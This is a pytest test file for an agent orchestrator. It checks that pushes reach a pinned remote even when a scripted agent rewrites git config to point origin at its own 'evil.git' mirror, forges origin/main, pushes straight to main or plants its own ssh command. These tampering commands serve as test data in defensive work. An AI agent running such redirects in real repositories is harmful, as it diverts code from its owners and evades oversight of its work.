"""Pushes go to the repo's pinned url whatever an agent does to git config, and a failed push says why once."""
from __future__ import annotations

import doctest
import json
import shlex
import sys
from pathlib import Path

import pytest

from conftest import git, require_tool
from workers_fixtures import project, retry_until, tmux_socket  # noqa: F401

from test_workers_e2e import _monitor_in_thread

from orchestrator import cli, pins, worktrees
from orchestrator.monitor import monitor
from orchestrator.report import status_document
from orchestrator.run import open_run

# An agent that runs the test's shell commands for its issue in its worktree, then commits (or exits as told).
AGENT = r'''
import json, subprocess, sys
from pathlib import Path

script, number, stage = sys.argv[1], sys.argv[2], sys.argv[3]
plan = json.loads(Path(script).read_text()).get(number, {})
for command in plan.get("run", []):
    subprocess.run(command, shell=True, check=True)
if "exit" in plan:
    sys.exit(plan["exit"])
Path(f"work-{number}.txt").open("a").write(f"{stage}\n")
subprocess.run(["git", "add", "-A"], check=True)
subprocess.run(["git", "-c", "user.name=Agent", "-c", "user.email=agent@example.com", "commit", "-q", "-m",
                f"{stage} #{number}"], check=True)
'''


def scripted(proj, plans: dict[int, dict]) -> None:
    """Give the project our agent, doing `plans[n]` for issue n."""
    agent = proj.root / "agent" / "push_agent.py"
    agent.write_text(AGENT)
    plan_file = proj.root / "agent" / "plans.json"
    plan_file.write_text(json.dumps({str(n): plan for n, plan in plans.items()}))
    doc = proj.doc()
    doc["agent_command"] = " ".join([shlex.quote(sys.executable), shlex.quote(str(agent)), shlex.quote(str(plan_file)),
                                     "{{issue.number}}", "{{stage}}"])
    proj.config.write_text(json.dumps(doc, indent=2))


def gate(proj) -> tuple[Path, str]:
    """A file the agent waits for (a command for its plan): the test decides when it commits."""
    path = proj.root / "agent" / "go"
    return path, f"while [ ! -e {shlex.quote(str(path))} ]; do sleep 0.05; done"


def heads(bare: Path) -> dict[str, str]:
    out = git(bare, "for-each-ref", "--format=%(refname) %(objectname)", "refs/heads/")
    return dict(line.split() for line in out.splitlines())


def evil_mirror(proj) -> Path:
    """A copy of the real remote (an agent's own server): fetching from it works, so only pushes tell."""
    evil = proj.root / "evil.git"
    git(proj.root, "clone", "-q", "--bare", str(proj.remote), str(evil))
    return evil


REDIRECTS = {
    "pushurl": "git config remote.origin.pushurl {evil}",
    "url": "git config remote.origin.url {evil}",
    "insteadOf": "git config url.{evil}.insteadOf {real}",
    "pushInsteadOf": "git config url.{evil}.pushInsteadOf {real}",
    "renamed remote": "git remote rename origin real && git remote add origin {evil}",
    "global config in HOME": "git config --global url.{evil}.insteadOf {real}",
}


@pytest.mark.parametrize("how", list(REDIRECTS))
def test_an_agent_redirecting_origin_never_moves_where_any_issue_is_pushed(project, how, capsys):
    """Broke: #1's agent pointed origin at its own server; #2, assigned after that, was pushed there and
    reported completed while the real remote never got it. Now both land on the pinned remote, the
    agent's server gets nothing, and status says done with no failure."""
    proj = project([{"number": 1, "title": "redirects"}, {"number": 2, "title": "after"}],
                   pipeline=["implement"], num_workers=1)
    evil = evil_mirror(proj)
    command = REDIRECTS[how].format(evil=shlex.quote(str(evil)), real=shlex.quote(str(proj.remote)))
    scripted(proj, {1: {"run": [command]}})
    before = heads(evil)

    assert monitor(open_run(), cycle=0.2, no_delay=True, say=lambda _: None) == 0

    assert git(proj.repo, "remote", "get-url", "--push", "origin") == str(evil)  # plain git would push there
    local = {b: git(proj.repo, "rev-parse", f"refs/heads/{b}") for b in ("feature/issue-1", "feature/issue-2")}
    real = heads(proj.remote)
    assert {b: real.get(f"refs/heads/{b}") for b in local} == local
    assert heads(evil) == before
    assert [proj.issue(n)["status"] for n in (1, 2)] == ["completed", "completed"]
    pushes = [e for e in proj.events() if e["action"] == "push"]
    assert [(e["issue"], e["url"]) for e in pushes] == [(1, str(proj.remote)), (2, str(proj.remote))]
    capsys.readouterr()
    assert cli.main(["status", "--json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["done"] is True and doc["failures"] == []
    assert json.loads((proj.state / "push-pins.json").read_text())["repos"]["default"]["url"] == str(proj.remote)


def test_a_forged_origin_main_is_never_the_base_of_the_next_issue(project):
    """Broke: #1's agent pointed origin at its server, whose main (and our origin/main) held a commit of its
    own; #2's branch started there and that commit was pushed to the real remote as #2's work. Now a new
    branch starts where the pinned remote's main is."""
    proj = project([{"number": 1, "title": "forges"}, {"number": 2, "title": "after"}],
                   pipeline=["implement"], num_workers=1)
    evil = shlex.quote(str(evil_mirror(proj)))
    forge = ("sha=$(git -c user.name=A -c user.email=a@example.com commit-tree 'HEAD^{tree}' -p HEAD -m 'evil base')"
             f" && git push -q {evil} $sha:refs/heads/main && git config remote.origin.url {evil}"
             " && git update-ref refs/remotes/origin/main $sha")
    scripted(proj, {1: {"run": [forge]}})

    assert monitor(open_run(), cycle=0.2, no_delay=True, say=lambda _: None) == 0

    assert git(proj.repo, "log", "-1", "--format=%s", "refs/remotes/origin/main") == "evil base"
    assert proj.remote_commits("feature/issue-2") == ["implement #2"]
    assert proj.remote_commits("feature/issue-1") == ["implement #1"]


def _orchestrator(*args: str):
    import subprocess

    from conftest import ROOT
    from workers_fixtures import monitor_env

    return subprocess.run([sys.executable, "-m", "orchestrator", *args], cwd=ROOT / "scripts" / "proof-workers",
                          env=monitor_env(), capture_output=True, text=True, timeout=60)


def test_launch_pins_first_and_starts_new_branches_at_the_pinned_remote(project, tmux_socket):
    """A second launch after an agent of the first run pointed origin at a server with its own main: the
    first worktree launch creates starts at the pinned remote's main, and the work lands there."""
    proj = project([{"number": 1, "title": "one"}], pipeline=["implement"], num_workers=1)
    scripted(proj, {})
    assert _orchestrator("launch", "--dry-run").returncode == 0
    assert not (proj.state / "push-pins.json").exists()  # a dry run pins nothing
    assert cli.main(["repin"]) == 0  # as the first run's launch did
    evil = evil_mirror(proj)
    git(proj.repo, "commit", "-q", "--allow-empty", "-m", "evil base")
    git(proj.repo, "push", "-q", str(evil), "HEAD:refs/heads/main")
    git(proj.repo, "reset", "-q", "--hard", "HEAD~1")
    git(proj.repo, "config", "remote.origin.url", str(evil))

    launched = _orchestrator("launch")

    assert launched.returncode == 0, launched.stderr
    retry_until(lambda: any(e["action"] == "shutdown" for e in proj.events()), seconds=60)
    assert proj.remote_commits("feature/issue-1") == ["implement #1"]
    assert heads(evil).get("refs/heads/feature/issue-1") is None


def test_launch_that_cannot_pin_refuses_in_one_line_and_creates_nothing(project, home, tmux_socket):
    proj = project([{"number": 1, "title": "one"}], pipeline=["implement"])
    home.write_repos([], raw="{not json")

    launched = _orchestrator("launch")

    assert launched.returncode == 2 and launched.stderr.count("\n") == 1, launched.stderr
    assert "cannot pin the push target of repo default" in launched.stderr and "repos.json" in launched.stderr
    assert not (proj.root / "worktrees").exists() and not tmux_socket.sessions
    assert not (proj.state / "push-pins.json").exists()


def test_a_relative_origin_path_is_pinned_as_the_directory_it_names(project):
    proj = project([{"number": 1, "title": "one"}], pipeline=["implement"], num_workers=1)
    scripted(proj, {})
    git(proj.repo, "remote", "set-url", "origin", "../../remotes/app.git")

    assert monitor(open_run(), cycle=0.2, no_delay=True, say=lambda _: None) == 0

    assert proj.remote_commits("feature/issue-1") == ["implement #1"]
    assert pins.load(proj.state / "push-pins.json")["default"].url == str(proj.remote)


def test_an_agent_pushing_to_main_itself_is_visible_to_the_alert_code_and_never_pushed_by_us(project):
    """Our push sends only the issue's branch; what an agent pushed itself (`git push origin HEAD:main`) and
    an origin changed behind the pin are facts the alert code reads from pins."""
    proj = project([{"number": 1, "title": "pushes main"}], pipeline=["implement"], num_workers=1)
    main_before = git(proj.remote, "rev-parse", "refs/heads/main")
    evil = evil_mirror(proj)
    scripted(proj, {1: {"run": ["git -c user.name=A -c user.email=a@example.com commit -q --allow-empty -m sneaky"
                                " && git push -q origin HEAD:main && git push -q origin HEAD:refs/heads/extra",
                                f"git config remote.origin.pushurl {shlex.quote(str(evil))}"]}})

    assert monitor(open_run(), cycle=0.2, no_delay=True, say=lambda _: None) == 0

    run = open_run()
    sneaky = pins.pinned_remote_head(run.state_root, "demo", "default", "main")
    assert sneaky != main_before and git(proj.remote, "log", "-1", "--format=%s", sneaky) == "sneaky"
    assert pins.origin_drift(run.state_root, "demo", run.lead.repos["default"]) == str(evil)
    pushed = [e for e in proj.events() if e["action"] == "push"]
    assert [(e["branch"], e["url"]) for e in pushed] == [("feature/issue-1", str(proj.remote))]
    assert heads(evil) == {"refs/heads/main": main_before}


def test_a_repo_that_cannot_be_pinned_holds_its_issues_pending_never_fails_them(project, home):
    """A monitor started without launch, with a broken repos.json: no issue starts and none is failed for it
    (each cycle says why); once repos.json is fixed the run goes on."""
    proj = project([{"number": 1, "title": "one"}, {"number": 2, "title": "two"}], pipeline=["implement"],
                   num_workers=1)
    scripted(proj, {})
    home.write_repos([], raw="{not json")

    monitor(open_run(), once=True, no_delay=True, say=lambda _: None)

    assert [proj.issue(n).get("status") for n in (1, 2)] == [None, None]
    [error] = [e for e in proj.events() if e["action"] == "error"]
    assert error["during"] == "reassign" and "push target: cannot pin the push target of repo default" in error["error"]
    assert not (proj.root / "worktrees").exists() and not (proj.state / "push-pins.json").exists()
    home.repos_file.unlink()
    assert monitor(open_run(), cycle=0.2, no_delay=True, say=lambda _: None) == 0
    assert [proj.issue(n)["status"] for n in (1, 2)] == ["completed", "completed"]


def test_cleanup_counts_a_commit_as_pushed_only_when_the_pinned_remote_has_it(project, tmux_socket):
    """Broke: an agent pointed origin at its own server holding its detached commit; cleanup fetched origin,
    saw the commit 'on the remote' and removed the worktree: the commit was then reachable from nothing here."""
    from orchestrator.cleanup import cleanup
    from test_workers_cleanup import add_worktree, commit

    proj = project([{"number": 1, "title": "one"}, {"number": 2, "title": "two"}])
    assert cli.main(["repin"]) == 0
    kept, removed = add_worktree(proj, 1), add_worktree(proj, 2)
    git(kept, "checkout", "-q", "--detach")
    commit(kept, "only-here.txt")
    lone = git(kept, "rev-parse", "HEAD")
    commit(removed, "pushed.txt")
    git(removed, "push", "-q", "origin", "feature/issue-2")
    evil = evil_mirror(proj)
    git(kept, "push", "-q", str(evil), "HEAD:refs/heads/looks-pushed")
    git(proj.repo, "config", "remote.origin.url", str(evil))

    seen = {Path(v["path"]).name: v for v in cleanup(open_run()).to_json()["worktrees"]}

    assert seen["issue-1"]["outcome"] == "kept" and "1 commit(s) not on the remote" in seen["issue-1"]["reasons"]
    assert kept.exists() and git(proj.repo, "cat-file", "-t", lone) == "commit"
    assert seen["issue-2"]["outcome"] == "removed"


def test_repos_json_remote_is_the_pin_when_given(project, home):
    """A repo listed in repos.json with a `remote` is pushed there, not to whatever origin says."""
    proj = project([{"number": 1, "title": "one"}], pipeline=["implement"], num_workers=1)
    mirror = evil_mirror(proj)
    home.write_repos([{"name": "app", "local": str(proj.repo), "remote": str(mirror)}])

    assert monitor(open_run(), cycle=0.2, no_delay=True, say=lambda _: None) == 0

    local = git(proj.repo, "rev-parse", "refs/heads/feature/issue-1")
    assert heads(mirror).get("refs/heads/feature/issue-1") == local
    assert "refs/heads/feature/issue-1" not in heads(proj.remote)
    pin = json.loads((proj.state / "push-pins.json").read_text())["repos"]["default"]
    assert (pin["url"], pin["source"]) == (str(mirror), "repos.json")


def test_a_rejected_push_fails_the_issue_at_once_and_status_says_why_once(project, capsys):
    """A pre-receive hook's 'no' will not change: #1 fails on its first push (one push_failed, no retries),
    its dependent #2 is blocked, #3 completes; status lists one reason per failed or blocked issue."""
    proj = project([{"number": 1, "title": "rejected"}, {"number": 2, "title": "needs 1", "depends_on": [1]},
                    {"number": 3, "title": "fine"}], pipeline=["implement"], num_workers=1)
    scripted(proj, {})
    hook = proj.remote / "hooks" / "pre-receive"
    hook.write_text("#!/bin/sh\nwhile read old new ref; do\n"
                    "  [ \"$ref\" = refs/heads/feature/issue-1 ] && { echo 'remote says no' >&2; exit 1; }\n"
                    "done\nexit 0\n")
    hook.chmod(0o755)

    assert monitor(open_run(), cycle=0.2, no_delay=True, say=lambda _: None) == 1

    assert [proj.issue(n).get("status") for n in (1, 2, 3)] == ["failed", None, "completed"]
    failed = [e for e in proj.events() if e["action"] == "push_failed"]
    assert len(failed) == 1 and failed[0]["retry"] is False and "remote says no" in failed[0]["error"]
    doc = status_document(open_run())
    assert [(f["project"], f["issue"], f["state"]) for f in doc["failures"]] == [("demo", 1, "failed"),
                                                                                 ("demo", 2, "blocked")]
    assert "remote says no" in doc["failures"][0]["reason"] and doc["failures"][0]["at"]
    assert doc["failures"][1]["reason"] == "waits on failed #1"
    assert {"push_failed", "skip", "mark_complete"} <= {e["action"] for e in doc["events"]}
    assert git(proj.repo, "rev-parse", "refs/heads/feature/issue-1")  # the work stays on the local branch
    assert cli.main(["status"]) == 0
    shown = [line for line in capsys.readouterr().out.splitlines() if line.startswith(("failed:", "blocked:"))]
    assert len(shown) == 2 and shown[0].startswith("failed: demo #1: push failed: ") and "remote says no" in shown[0]
    assert shown[1] == "blocked: demo #2: waits on failed #1"


def test_network_errors_are_retried_and_a_repin_lets_the_push_land(project, capsys):
    """The pinned url is unreachable (connection refused): no issue starts (its base would be a guess), and
    a push is retried each cycle with the issue in progress; status shows another issue's failure, not the
    retry lines. The user points origin back and runs `repin`: the next cycle's push lands."""
    require_tool("ssh")
    proj = project([{"number": 1, "title": "network"}, {"number": 2, "title": "exits 7"}],
                   pipeline=["implement"], num_workers=2, max_retries=0)
    go, wait = gate(proj)
    scripted(proj, {1: {"run": [wait]}, 2: {"exit": 7}})
    unreachable = "ssh://127.0.0.1:1/nowhere.git"

    def cycle() -> None:
        monitor(open_run(), once=True, no_delay=True, say=lambda _: None)

    def pin_to(url: str | None) -> str:
        if url:
            git(proj.repo, "config", "remote.origin.pushurl", url)
        else:
            git(proj.repo, "config", "--unset", "remote.origin.pushurl")
        assert cli.main(["repin"]) == 0
        return capsys.readouterr().out

    assert f"pushes to {unreachable} (from origin; first pin)" in pin_to(unreachable)
    cycle()
    assert [proj.issue(n).get("status") for n in (1, 2)] == [None, None]
    assert all("Connection refused" in e["error"] for e in proj.events() if e["action"] == "error")
    assert any(e["action"] == "error" and e["during"] == "reassign" for e in proj.events())

    assert f"pushes to {proj.remote} (from origin; was {unreachable})" in pin_to(None)
    retry_until(lambda: cycle() or proj.issue(2).get("status") == "failed", seconds=60, interval=0.2)
    assert proj.issue(1)["status"] == "in_progress"
    pin_to(unreachable)
    go.touch()  # #1 commits now: its pushes meet the unreachable pin
    retry_until(lambda: cycle() or sum(1 for e in proj.events() if e["action"] == "push_failed") >= 3,
                seconds=60, interval=0.2)
    failed = [e for e in proj.events() if e["action"] == "push_failed"]
    assert all(e["retry"] is True and "Connection refused" in e["error"] for e in failed)
    assert proj.issue(1)["status"] == "in_progress"
    doc = status_document(open_run())
    assert [(f["issue"], f["state"]) for f in doc["failures"]] == [(2, "failed")]
    assert "exit code 7" in doc["failures"][0]["reason"]

    assert f"pushes to {proj.remote} (from origin; was {unreachable})" in pin_to(None)
    retry_until(lambda: cycle() or proj.issue(1)["status"] == "completed", seconds=60, interval=0.2)
    assert heads(proj.remote)["refs/heads/feature/issue-1"] == git(proj.repo, "rev-parse", "feature/issue-1")


def test_an_unreadable_pin_file_stops_pushes_and_is_never_remade_silently(project):
    """A pin file that does not parse is not replaced by origin's url of the moment: the push fails with a
    one-line reason naming `repin`, and the file stays as it was."""
    proj = project([{"number": 1, "title": "one"}], pipeline=["implement"], num_workers=1)
    go, wait = gate(proj)
    scripted(proj, {1: {"run": [wait]}})
    thread, result = _monitor_in_thread()
    try:
        retry_until(lambda: proj.issue(1).get("status") == "in_progress", seconds=30)
        (proj.state / "push-pins.json").write_text("{not json")
    finally:
        go.touch()
        thread.join(timeout=60)
    assert result == [1] and proj.issue(1)["status"] == "failed"
    assert (proj.state / "push-pins.json").read_text() == "{not json"
    skip = next(e for e in proj.events() if e["action"] == "skip")
    assert "unreadable push pins" in skip["reason"] and "repin" in skip["reason"]
    assert "refs/heads/feature/issue-1" not in heads(proj.remote)


def test_ensure_pins_every_repo_it_can_and_says_why_not_for_the_others(project, make_repo):
    proj = project([{"number": 1, "title": "one"}])
    lonely = make_repo("lonely")
    git(lonely.path, "remote", "remove", "origin")
    doc = proj.doc()
    doc["issues"][0]["repo"] = "app"
    doc["repos"] = {"app": {"path": doc.pop("repo_path"), "branch_prefix": "app-", "default_branch": "main"},
                    "lonely": {"path": str(lonely.path), "branch_prefix": "lonely-", "default_branch": "main"}}
    proj.config.write_text(json.dumps(doc))
    run = open_run()

    problems = pins.ensure(run.configs, run.state_root, proj.home)

    assert list(problems) == [("demo", "lonely")] and "no origin push url" in problems[("demo", "lonely")]
    assert {name: pin.url for name, pin in pins.load(proj.state / "push-pins.json").items()} == {
        "app": str(proj.remote)}
    assert pins.ensure(run.configs, run.state_root, proj.home) == problems  # asked again, still refused


def test_repin_rejects_an_unknown_repo_in_one_line(project, capsys):
    project([{"number": 1, "title": "one"}])
    assert cli.main(["repin", "--repo", "nope"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "unknown repo 'nope'" in err and "default" in err


def test_inv_workers_repin_pins_and_prints(project, inv):
    proj = project([{"number": 1, "title": "one"}])
    result = inv("workers.repin", "--json")
    assert result.code == 0, result.err
    [entry] = json.loads(result.out)
    assert entry["repo"] == "default" and entry["new"]["url"] == str(proj.remote) and entry["old"] is None
    assert pins.load(proj.state / "push-pins.json")["default"].url == str(proj.remote)


def test_remote_head_reads_the_url_itself_whatever_global_config_rewrites(make_repo, tmp_path):
    """For the alert code: the branch at a pinned url, read with no config (a global insteadOf is ignored)."""
    handle = make_repo("app")
    other = tmp_path / "other.git"
    git(tmp_path, "init", "-q", "--bare", str(other))
    git(handle.path, "config", "--global", f"url.{other}.insteadOf", str(handle.remote))
    assert worktrees.remote_head(str(handle.remote), "main") == handle.head()
    assert worktrees.remote_head(str(handle.remote), "absent") is None


def test_a_hung_transport_times_out_as_a_network_error_and_leaves_nothing_running(make_repo, tmp_path, monkeypatch):
    """A push whose ssh never answers (and started a child of its own) is killed with its whole group at the
    timeout and counted as a network error (retried), not left holding the monitor."""
    from conftest import process_running

    handle = make_repo("app")
    pid_file = tmp_path / "ssh.pid"
    fake_ssh = tmp_path / "fake-ssh"
    fake_ssh.write_text(f"#!/bin/sh\nsleep 600 &\necho $! > {shlex.quote(str(pid_file))}\nwait\n")
    fake_ssh.chmod(0o755)
    monkeypatch.setenv("GIT_SSH_COMMAND", str(fake_ssh))
    monkeypatch.setattr(worktrees, "GIT_TIMEOUT_S", 2.0)

    with pytest.raises(worktrees.PushFailed) as failed:
        worktrees.push_pinned(handle.path, "main", "ssh://git.example.invalid/app.git")

    assert failed.value.retry and "timed out after 2s" in str(failed.value)
    sleeper = int(retry_until(lambda: pid_file.exists() and pid_file.read_text().strip()))
    retry_until(lambda: not process_running(sleeper), seconds=10)


def test_the_pins_ssh_command_is_used_and_one_written_later_into_git_config_is_not(make_repo, tmp_path):
    """core.sshCommand (like credential.helper) is taken with the pin; an agent's later one is never run."""
    handle = make_repo("app")

    def fake_ssh(name: str) -> tuple[Path, Path]:
        script, marker = tmp_path / name, tmp_path / f"{name}.ran"
        script.write_text(f"#!/bin/sh\ntouch {shlex.quote(str(marker))}\n"
                          "echo 'ssh: connect to host git.example.invalid port 22: Connection refused' >&2\nexit 255\n")
        script.chmod(0o755)
        return script, marker

    (good, good_ran), (evil, evil_ran) = fake_ssh("good-ssh"), fake_ssh("evil-ssh")
    url = "ssh://git.example.invalid/app.git"
    git(handle.path, "config", "--global", "core.sshCommand", str(good))
    settings = worktrees.pinned_settings(handle.path)
    assert settings == {"core.sshCommand": [str(good)]}
    git(handle.path, "config", "core.sshCommand", str(evil))
    git(handle.path, "config", "--global", "core.sshCommand", str(evil))

    with pytest.raises(worktrees.PushFailed) as failed:
        worktrees.push_pinned(handle.path, "main", url, settings)

    assert failed.value.retry and "Connection refused" in str(failed.value)
    assert good_ran.exists() and not evil_ran.exists()


def test_failures_take_each_issue_s_last_reason_and_name_the_push_error_behind_a_give_up():
    """Table: the event lines of two projects (and old lines without a project) give one reason per issue."""
    from orchestrator.report import failures

    def line(at: str, **event) -> dict:
        return {"timestamp": at, "event": event}

    events = [
        line("t1", action="skip", issue=1, reason="exit code 7; retries exhausted (2)"),  # before projects were named
        line("t2", action="reassign", worker=1, new_issue=1, project="a"),
        line("t3", action="push_failed", issue=1, project="a", error="ssh: Connection refused", retry=True),
        line("t4", action="skip", issue=1, project="a", reason="push failed 10 times; the commits stay"),
        line("t5", action="push_failed", issue=1, project="b", error="b's own error", retry=True),
        line("t6", action="skip", issue=1, project="b", reason="stalled"),
        line("t7", action="reassign", worker=1, new_issue=2, project="a"),
        line("t8", action="push_failed", issue=2, project="a", error="old error", retry=True),
        line("t9", action="reassign", worker=1, new_issue=2, project="a"),
        line("t10", action="skip", issue=2, project="a", reason="exit code 1"),
    ]
    projects = [{"project": "a", "config": "a.json", "issues": [
                    {"number": 1, "state": "failed"}, {"number": 2, "state": "failed"},
                    {"number": 3, "state": "failed"}, {"number": 4, "state": "blocked", "blocked_by": [1, 3]}]},
                {"project": "b", "config": "b.json", "issues": [{"number": 1, "state": "failed"}]}]

    got = {(f["project"], f["issue"]): (f["state"], f["reason"], f["at"]) for f in failures(projects, events)}

    assert got == {
        ("a", 1): ("failed", "push failed 10 times; the commits stay (last push error: ssh: Connection refused)", "t4"),
        ("a", 2): ("failed", "exit code 1", "t10"),
        ("a", 3): ("failed", "failed (no reason recorded; status set in a.json)", None),
        ("a", 4): ("blocked", "waits on failed #1, #3", "t4"),
        ("b", 1): ("failed", "stalled", "t6"),
    }


def test_a_push_that_cannot_even_be_prepared_is_a_failure_never_a_crash(make_repo, tmp_path, monkeypatch):
    """No temporary directory (a full disk): retried. The repository gone: lasting. Neither escapes as an
    exception the monitor does not expect."""
    import tempfile

    handle = make_repo("app")
    with monkeypatch.context() as patched:
        patched.setattr(tempfile, "tempdir", str(tmp_path / "no-such-dir"))
        with pytest.raises(worktrees.PushFailed) as no_tmp:
            worktrees.push_pinned(handle.path, "main", str(handle.remote))
        assert no_tmp.value.retry and "cannot prepare the push of main" in str(no_tmp.value)
        with pytest.raises(worktrees.PushFailed) as no_tmp:
            worktrees.pinned_start(str(handle.remote), "main", "feature/x")
        assert no_tmp.value.retry
    with pytest.raises(worktrees.PushFailed) as gone:
        worktrees.push_pinned(tmp_path / "gone", "main", str(handle.remote))
    assert not gone.value.retry and "does not exist" in str(gone.value)


def test_git_config_in_the_monitor_s_environment_never_rewrites_a_pinned_push(make_repo, tmp_path, monkeypatch):
    handle = make_repo("app")
    git(handle.path, "switch", "-q", "-c", "feature/x")
    sha = handle.commit({"x.txt": "x"}, "x")
    evil = tmp_path / "evil.git"
    git(tmp_path, "init", "-q", "--bare", str(evil))
    rewrite = {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": f"url.{evil}.insteadOf",
               "GIT_CONFIG_VALUE_0": str(handle.remote),
               "GIT_CONFIG_PARAMETERS": f"'url.{evil}.pushinsteadof'='{handle.remote}'"}
    for name, value in rewrite.items():
        monkeypatch.setenv(name, value)

    assert worktrees.push_pinned(handle.path, "feature/x", str(handle.remote)) == (sha, True)

    assert handle.remote_ref("feature/x") == sha and heads(evil) == {}


def test_network_error_predicate_examples():
    assert doctest.testmod(worktrees).failed == 0 and doctest.testmod(pins).failed == 0
    assert worktrees.is_network_error("ssh: Could not resolve hostname gitlab.example: Name or service not known")
    assert not worktrees.is_network_error("remote: HTTP Basic: Access denied / fatal: Authentication failed")
